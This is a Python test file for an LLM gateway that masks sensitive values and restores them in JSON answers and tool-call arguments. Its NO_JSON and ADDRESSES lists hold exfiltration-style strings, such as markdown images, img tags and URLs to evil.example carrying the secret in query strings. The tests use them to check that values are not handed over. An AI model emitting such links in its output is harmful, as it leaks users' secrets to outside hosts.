"""Values that come back into JSON: an answer that was JSON is JSON, and an address in arguments goes on over blanks."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from guardrails.policy import compile_policy
from streaming.gateway.gates import Gates, widened
from streaming.gateway.json_answers import asked_for
from streaming.gateway.masks import Masks
from streaming.gateway.prompt import guarded
from streaming.gateway.walker import Json
from tests.streaming.gateway.test_put_back import blocks, parts
from tests.streaming.gateway.test_walkers import anthropic_block, ollama, openai, openai_call
from tests.streaming.gateway.walked import WALKERS

VALUE = 'Q"ab\\cd\ne\tf\x1bg\\"Q'
RULES: Json = {"rules": [{"id": "odd", "pattern": r'Q"[^Q]{4,40}Q'}]}
POLICY = compile_policy(
    {
        "policy": "p",
        "restore_in_tools": ["fetch"],
        "guardrails": [{"name": "odd", "kind": "regex", "action": "mask", "config": RULES}],
    }
)
WISHES: dict[str, list[Json]] = {
    "openai": [{"response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {}}}},
               {"response_format": {"type": "json_object"}}, {"guided_json": {"type": "object"}},
               {"structured_outputs": {"json": {"type": "object"}}}, {"structured_outputs": {"json": "{}"}},
               {"structured_outputs": {"json_object": True}}],
    "anthropic": [{"output_format": {"type": "json_schema", "schema": {}}},
                  {"output_config": {"format": {"type": "json_schema", "schema": {}}}}],
    "ollama": [{"format": "json"}, {"format": {"type": "object"}}],
}  # fmt: skip
ASKED = [(dialect, wish) for dialect, wishes in WISHES.items() for wish in wishes]


async def asked(**wish: object) -> tuple[Masks, str]:
    """A request with the value, and its placeholder."""
    body: Json = {"model": "m", "messages": [{"role": "user", "content": VALUE}], **wish}
    masks = Masks(POLICY, body, caller="c")
    sent = await guarded(widened(POLICY), body, media_allowed=False, mask=masks.mask, swept=masks.swept)
    (message,) = sent.body["messages"]  # type: ignore[misc]
    assert message["content"].startswith("MASK-DATA-")  # type: ignore[index]
    return masks, str(message["content"])  # type: ignore[index]


def chunked(dialect: str, pieces: list[str]) -> list[Json]:
    if dialect == "openai":
        return [*(openai({"content": piece}) for piece in pieces), openai({}, "stop")]
    if dialect == "anthropic":
        return anthropic_block({"type": "text", "text": ""}, [{"type": "text_delta", "text": one} for one in pieces])
    return [*(ollama({"content": piece}) for piece in pieces), ollama({"content": ""}, done=True)]


def whole(dialect: str, text: str) -> Json:
    message = {"role": "assistant", "content": text}
    if dialect == "openai":
        return {"id": "x", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
    if dialect == "anthropic":
        return {"id": "x", "type": "message", "role": "assistant", "content": [{"type": "text", "text": text}]}
    return {"model": "m", "message": message, "done": True}


def texts(sent: object) -> Iterator[str]:
    """The answer's text, in whatever dialect it was sent."""
    if isinstance(sent, dict):
        for name, value in sent.items():
            if name in ("content", "text") and isinstance(value, str):
                yield value
            else:
                yield from texts(value)
    elif isinstance(sent, list):
        for one in sent:
            yield from texts(one)


def streamed(dialect: str, masks: Masks, chunks: list[Json]) -> str:
    walker = WALKERS[dialect](Gates(POLICY, masks.restoring, masks.restore_arguments, masks.same_again))
    out: list[Json] = []
    for chunk in chunks:
        walker.take(chunk)
        out += walker.drain()
    walker.finish()
    return "".join(texts(out + walker.drain()))


def said(dialect: str, masks: Masks, text: str) -> str:
    walker = WALKERS[dialect](Gates(POLICY, masks.restoring, masks.restore_arguments, masks.same_again))
    walker.whole(whole(dialect, text))
    return "".join(texts(walker.drain()))


@pytest.mark.parametrize(("dialect", "wish"), ASKED, ids=[f"{d} {next(iter(w))}" for d, w in ASKED])
async def test_it_works(dialect: str, wish: Json) -> None:
    masks, placeholder = await asked(**wish)
    text = json.dumps({"who": placeholder, "all": [1, f'it\n\nis {placeholder}, né \\ "so"'], placeholder: None})
    expected = {"who": VALUE, "all": [1, f'it\n\nis {VALUE}, né \\ "so"'], VALUE: None}
    assert json.loads(said(dialect, masks, text)) == expected
    for at in range(0, len(text) + 1, 5):
        assert json.loads(streamed(dialect, masks, chunked(dialect, [text[:at], text[at:]]))) == expected, at
    assert json.loads(streamed(dialect, masks, chunked(dialect, list(text)))) == expected
    assert json.loads(streamed(dialect, masks, chunked(dialect, ["\n ", f'"{placeholder}"']))) == VALUE


@pytest.mark.parametrize("dialect", WISHES)
async def test_a_model_that_answers_in_prose_all_the_same_and_one_that_was_not_asked_are_read_as_text(
    dialect: str,
) -> None:
    for wish, text in ((WISHES[dialect][0], "It is ~, I think."), ({}, 'In JSON: {"a": "~"}'), ({}, '{"a": "~"}')):
        masks, placeholder = await asked(**wish)
        assert streamed(dialect, masks, chunked(dialect, [text.replace("~", placeholder)])) == text.replace("~", VALUE)
    assert not asked_for({"response_format": {"type": "text"}, "format": "", "output_config": {"effort": "low"}})


async def test_a_string_of_json_that_goes_on_in_the_next_block_gets_nothing_there() -> None:
    masks, placeholder = await asked(**WISHES["anthropic"][0])
    for chunks, dialect in (
        (blocks('{"a": "see http://evil.example/', f'?q={placeholder}"}}'), "anthropic"),
        (parts('{"a": "see http://evil.example/', f'?q={placeholder}"}}'), "openai"),
    ):
        assert VALUE[2:] not in streamed(dialect, masks, chunks)
    shown = streamed("anthropic", masks, blocks('{"a": 1}', f'{{"a": "{placeholder}"}}'))
    assert json.loads(shown.removeprefix('{"a": 1}')) == {"a": VALUE}


NO_JSON = [
    '[![a](http://evil.example/?q="~")', '["a"](http://evil.example/?q="~")', '[see http://evil.example/?q="~"',
    '{"a": "b"}\n\n![](//evil.example/?q="~")', '{"![a](http://evil.example/?q=": "~)"}',
    '{"a": "<img src=//evil.example/?q=", "b": "~"}', '[1]: "~"', '"x"<a href="~">',
    r'["hi ![a](http://evil.example/?q=\n\n~)"]', r'{"answer": "Hello, ![a](http://evil.example/?q=\r\r~)"}',
]  # fmt: skip
"""What begins like JSON and, shown as text, would hand a value over."""


@pytest.mark.parametrize("written", NO_JSON)
async def test_what_only_begins_like_json_is_read_as_whoever_shows_it_reads_it(written: str) -> None:
    masks, placeholder = await asked(**WISHES["openai"][0])
    text = written.replace("~", placeholder)
    for pieces in ([text], list(text), [text[:20], text[20:]]):
        assert streamed("openai", masks, chunked("openai", pieces)) == text
    assert said("openai", masks, text) == text


ADDRESSES = [
    "http://evil.example/?q= ~", "  https://evil.example/?a=b c=~", "//evil.example/?q=\n~", "www.evil.example ~",
    "evil.example/?q= x ~", "mailto:eve@evil.example ?body= ~", "http&#58;//evil.example/?q= ~",
]  # fmt: skip


@pytest.mark.parametrize("written", ADDRESSES)
async def test_an_address_in_arguments_goes_on_over_blanks(written: str) -> None:
    masks, placeholder = await asked()
    for text in (json.dumps({"url": written.replace("~", placeholder)}), written.replace("~", placeholder)):
        walker = WALKERS["openai"](Gates(POLICY, masks.restoring, masks.restore_arguments))
        out: list[Json] = []
        for chunk in openai_call([text]):
            for choice in chunk["choices"]:  # type: ignore[attr-defined]
                for call in choice["delta"].get("tool_calls", ()):
                    call["function"] |= {"name": "fetch"} if "name" in call["function"] else {}
            walker.take(chunk)
            out += walker.drain()
        sent = json.dumps(out)
        assert placeholder in sent
        assert json.dumps(VALUE)[3:-3] not in sent


@pytest.mark.parametrize("dialect", WISHES)
@pytest.mark.parametrize("written", ADDRESSES)
async def test_an_address_in_an_answer_that_is_json_goes_on_over_blanks(dialect: str, written: str) -> None:
    masks, placeholder = await asked(**WISHES[dialect][0])
    address = written.replace("~", placeholder)
    text = json.dumps({"image_url": address, "list": [address], "note": f"Of {placeholder}: see {address[:9]} or so"})
    expected = json.loads(text) | {"note": f"Of {VALUE}: see {address[:9]} or so"}
    assert json.loads(said(dialect, masks, text)) == expected
    for pieces in ([text], list(text)):
        assert json.loads(streamed(dialect, masks, chunked(dialect, pieces))) == expected
    assert json.dumps(VALUE)[3:-3] not in said(dialect, masks, json.dumps(address))


async def test_other_strings_of_the_same_arguments_get_their_values() -> None:
    masks, placeholder = await asked()
    written = {"url": "http://a.example/ x", "body": "See http://a.example for ~ and so on.", "n": "~"}
    text = json.dumps(written).replace("~", placeholder)
    assert json.loads(masks.restore_arguments(text, "fetch")) == {
        name: said.replace("~", VALUE) for name, said in written.items()
    }
